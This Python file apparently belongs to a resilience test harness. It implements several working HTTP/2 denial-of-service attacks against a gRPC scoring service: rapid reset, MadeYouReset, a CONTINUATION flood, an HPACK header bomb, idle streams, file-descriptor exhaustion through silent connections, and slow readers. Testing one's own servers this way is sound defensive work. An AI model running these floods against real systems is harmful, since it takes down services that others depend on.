"""A hostile client, as a program of its own: `attacks.py NAME ADDRESS SECONDS` prints what it saw as JSON."""

import json
import os
import resource
import socket
import struct
import sys
import time

import raw
from raw import CONTINUATION, END_HEADERS, HEADERS, RST_STREAM, WINDOW_UPDATE, Connection, frame

SCORE = "/tally.v1.ScoringService/PredictChurn"
EXPORT = "/tally.v1.PredictionService/ExportPredictions"


def again_and_again(attack, address, seconds):
    """Repeats an attack on new connections for some seconds; keeps the worst of what it saw."""
    begin, connections, sent, most, streams, outcomes = time.monotonic(), 0, 0, 0, 0, set()
    while time.monotonic() - begin < seconds:
        connection = Connection(address)
        own = attack(connection, time.monotonic() + 5)
        connection.closed.wait(2)
        outcomes.add(connection.outcome())
        connection.close()
        connections, sent, most = connections + 1, sent + own, max(most, own)
        streams = max(streams, (connection.last_stream + 1) // 2)
    # What was sent runs ahead of what the server has read; GOAWAY says how many streams it has begun.
    return {"connections": connections, "sent": sent, "most on one": most, "streams begun": streams,
            "outcomes": sorted(outcomes)}


def flood(frames_of, limit, every=50):
    """An attack that sends the frames of stream after stream until the server ends the connection."""

    def attack(connection, until):
        sent = 0
        while sent < limit and time.monotonic() < until and connection.outcome() == "open":
            if not connection.send(b"".join(frames_of(connection.stream()) for _ in range(every))):
                break
            sent += every
        return sent

    return attack


def rapid_reset(address, seconds):
    """D1: streams that are begun and reset at once (CVE-2023-44487)."""
    block, cancel = raw.header_block(SCORE), struct.pack(">I", 8)
    attack = flood(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel), 100_000)
    return again_and_again(attack, address, seconds)


def made_you_reset(address, seconds):
    """D2: streams whose window overflows, so that the server resets them (CVE-2025-8671)."""
    block, most = raw.header_block(SCORE), struct.pack(">I", (1 << 31) - 1)
    attack = flood(lambda stream: frame(HEADERS, END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, most) * 2, 20_000)
    return again_and_again(attack, address, seconds)


def idle_streams(address, seconds):
    """D3: streams that are begun and never ended."""
    block = raw.header_block(SCORE)
    connection = Connection(address)
    for _ in range(100):
        if not connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.stream(), block) for _ in range(100))):
            break
    time.sleep(min(3, seconds))
    return {"sent": (connection.next - 1) // 2, "refused": len(connection.resets), "outcome": connection.outcome(),
            "most": connection.server_settings.get(raw.MAX_CONCURRENT_STREAMS)}


def continuation(address, seconds):
    """D4: headers that never end (CVE-2024-27316); sent is in bytes."""
    block = raw.header_block(SCORE)
    piece = frame(CONTINUATION, 0, 1, raw.hpack.Encoder().encode([("x", "y" * 16_000, True)], huffman=False))

    def attack(connection, until):
        connection.send(frame(HEADERS, 0, 1, block))
        sent = len(block)
        while sent < 1 << 28 and time.monotonic() < until and connection.outcome() == "open" and connection.send(piece):
            sent += len(piece)
        return sent

    return again_and_again(attack, address, seconds)


def header_bomb(address, seconds):
    """D5: one header of 4 KiB that the compression repeats 4,000 times."""
    # A literal with incremental indexing, and its index (62) again and again.
    text = b"z" * 3_900
    block = raw.header_block(SCORE) + b"\x40\x01x\x7f" + varint(len(text) - 127) + text + b"\xbe" * 4_000
    answers = set()

    def attack(connection, until):
        stream = connection.stream()
        connection.send(frame(HEADERS, END_HEADERS | 1, stream, block))
        answers.add(connection.status(stream, 5))
        return len(block)

    seen = again_and_again(attack, address, seconds)
    return {**seen, "answers": sorted(answers)}


def varint(number):
    coded = b""
    while number >= 128:
        coded += bytes([number % 128 | 128])
        number //= 128
    return coded + bytes([number])


def silent(address, seconds):
    """D7: connections that say nothing."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    # The server needs some files besides.
    wanted = min(5_000, hard - 100)
    host, _, port = address.rpartition(":")
    opened, refused = [], 0
    for _ in range(wanted):
        try:
            opened.append(socket.create_connection((host, int(port)), timeout=1))
        except OSError:
            refused += 1
    begin, closed = time.monotonic(), []
    while opened and time.monotonic() - begin < seconds:
        still = []
        for one in opened:
            one.setblocking(False)
            try:
                data = one.recv(1 << 16)
            except BlockingIOError:
                data = b"still open"
            except OSError:
                data = b""
            # SETTINGS that the server sends by itself are read and change nothing.
            (still if data else closed).append(one)
        opened = still
        time.sleep(0.1)
    return {"opened": len(opened) + len(closed), "refused": refused, "closed": len(closed),
            "seconds": time.monotonic() - begin}


def slow_readers(address, seconds):
    """D9, M2: 200 streams of all predictions, whose windows never open."""
    from_body = raw.message(bytes([0x08, 0x02, 0x38, 0x00]))  # target = CHURN, latest_only = false
    connections = [Connection(address, settings=[(raw.INITIAL_WINDOW_SIZE, 0)], window=0, reading=False) for _ in range(10)]
    for connection in connections:
        for _ in range(20):
            connection.call(EXPORT, from_body)
    time.sleep(seconds)
    answers = {}
    for connection in connections:
        for status in [*connection.statuses.values(), *(f"RST {code}" for code in connection.resets.values())]:
            answers[status] = answers.get(status, 0) + 1
    return {"streams": 200, "received": sum(connection.received for connection in connections), "answers": answers,
            "outcome": sorted({connection.outcome() for connection in connections})}


ATTACKS = [rapid_reset, made_you_reset, idle_streams, continuation, header_bomb, silent, slow_readers]


def main():
    # What the attacker computes must not slow the honest client, which shares the machine.
    os.nice(19)
    name, address, seconds = sys.argv[1:]
    attack = next(attack for attack in ATTACKS if attack.__name__ == name)
    print(json.dumps(attack(address, float(seconds))), flush=True)


if __name__ == "__main__":
    main()
